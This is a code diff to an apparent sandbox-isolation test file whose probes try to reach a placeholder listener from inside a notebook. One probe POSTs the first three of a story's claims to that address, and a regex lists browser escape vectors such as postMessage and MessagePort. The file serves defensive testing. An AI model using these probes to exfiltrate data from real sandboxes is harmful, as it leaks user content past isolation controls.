@@ -1,7 +1,10 @@
+import {moreProbes} from "./more-probes.ts";
+
 /** Programs that try to get out of a notebook. `TO` stands for the address of a listener that must hear nothing, `WS`
  * for
  * the same over web sockets, `UDP` for a port that hears datagrams. */
 export const probes: Record<string, string> = {
+  ...moreProbes,
   fetch: "await fetch('TO')",
   "fetch without cors": "await fetch('TO', {mode: 'no-cors', method: 'POST', body: " +
     "JSON.stringify(story.claims.slice(0, 3))})",
@@ -222,7 +225,7 @@ export function sharing(names: string[]): string[] {
     "\\blocation", "history", "(?<![\\w.])open\\(", "document\\.open", "\\breload", "submit", "click\\(",
     "dispatchEvent", "prototype", "defineProperty", "http-?equiv", "'base'", "importmap",
     "adoptedStyleSheets", "frameElement", "document\\.write", "postMessage", "insertBefore", "throw ", "Fullscreen",
-    "getOwnPropertyNames"
+    "getOwnPropertyNames", "\\bnavigation\\.", "MessagePort", "target=", "print\\(", "requestPointerLock"
   ].join("|"), "i");
   return names.filter((name) => !changes.test(probes[name]!));
 }
